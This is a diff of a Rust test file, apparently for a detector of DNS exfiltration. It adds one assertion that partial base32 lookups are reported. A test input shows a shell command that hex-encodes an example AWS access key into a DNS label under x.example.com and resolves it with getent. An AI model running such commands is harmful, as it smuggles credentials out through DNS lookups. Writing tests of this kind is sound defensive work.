@@ -209,6 +209,7 @@ fn a_protected_value_sent_or_spelled_into_a_name_is_found_and_never_shown() {
         );
         clean(&o, &v);
         assert!(fired(&v, "dns.exfiltration"), "{mode:?}: {v}");
+        assert!(v["report"]["lookups"].to_string().contains("(partial base32)"), "found by value: {v}");
         // Hex in a label of ordinary length: found by value.
         let (o, v) = env.run_json(
             "getent hosts $(printf %s AKIAIOSFODNN7EXAMPLE | od -An -tx1 | tr -d ' \\n').x.example.com >/dev/null",
